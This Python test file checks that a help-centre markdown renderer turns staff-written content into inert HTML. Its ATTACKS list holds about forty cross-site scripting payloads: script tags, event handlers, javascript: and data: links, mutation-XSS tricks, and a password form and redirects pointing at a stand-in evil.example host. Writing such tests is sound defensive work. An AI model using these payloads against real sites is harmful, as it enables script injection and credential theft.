"""Markdown from content staff becomes HTML that can do nothing."""

from __future__ import annotations

import re

import pytest

from bot.knowledge.render import dead_links, to_html, to_sections, to_text

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/help/attachments/a)",
    "![x](https://evil.example/help/attachments/a)",
    "![x](/help/attachments/../../desk/api/me)",
    "![x](/help/attachments/a?b=c)",
    "![x](/help/attachments/a%2f..)",
    "![x](/help/style.css)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![x](https://evil.example/pixel.png)](javascript:alert(1))",
    "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "<img src=/help/attachments/a onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
ALLOWED = {"p", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "br"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_only_text(attack: str) -> None:
    html = to_html(attack)
    for name, attributes in TAG.findall(html):
        assert name.lower() in ALLOWED, html
        assert not re.search(r"\bon\w+\s*=|style\s*=", unquoted(attributes)), html
        link = re.search(r'href="([^"]*)"', attributes)
        assert not link or re.match(r"https?://", link.group(1)), html


def test_links_that_readers_do_not_get_are_named() -> None:
    text = "[a](https://x.example) [b](/help) [c](#d)\n\n![e](data:f) [g](JavaScript:h)\n\n<vbscript:i>"
    assert list(dead_links(text)) == [(2, "data:f"), (2, "JavaScript:h"), (4, "vbscript:i")]
    assert list(dead_links("`[a](javascript:b)` <a href='javascript:c'>")) == []


def unquoted(attributes: str) -> str:
    return re.sub(r'"[^"]*"', '""', attributes)


def test_what_authors_write_is_shown() -> None:
    html = to_html(
        "## How\n\n1. **Print** the [label](/help/en)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "Write to [us](mailto:us@example.com)"
    )
    for part in ("<h2>How</h2>", "<strong>Print</strong>", 'href="/help/en"', "<td>2</td>"):
        assert part in html
    assert 'href="mailto:us@example.com"' in html
    assert 'rel="noopener noreferrer"' in html


def test_only_the_pictures_of_articles_are_shown() -> None:
    picture = '![A "box" <b>](/help/attachments/aB-1_ "Open")'
    shown = '<img src="/help/attachments/aB-1_" alt="A &quot;box&quot; &lt;b&gt;" title="Open">'
    assert to_html(picture) == f"<p>{shown}</p>\n"
    assert to_html("![A **fine** box](https://elsewhere.example/x.png)") == "<p>A fine box</p>\n"
    assert "<script" not in to_html("![<script>alert(1)</script>](https://x.example/y)")
    assert to_text(picture) == 'A "box" <b>'


def test_text_has_the_words_without_the_marks() -> None:
    assert to_text("You have **30 days** and a [label](/x).") == "You have 30 days and a label."
    assert to_text("| a | b |\n|---|---|\n| 1 | 2 |") == "a, b\n1, 2"


def test_sections_are_cut_at_headings() -> None:
    sections = to_sections(
        "Before\n\n## One\n\nfirst\nline\n\n- item\n\n## Empty\n\n### Two\n\nlast"
    )
    assert [(section.heading, section.paragraphs) for section in sections] == [
        ("", ("Before",)),
        ("One", ("first line", "item")),
        ("Two", ("last",)),
    ]
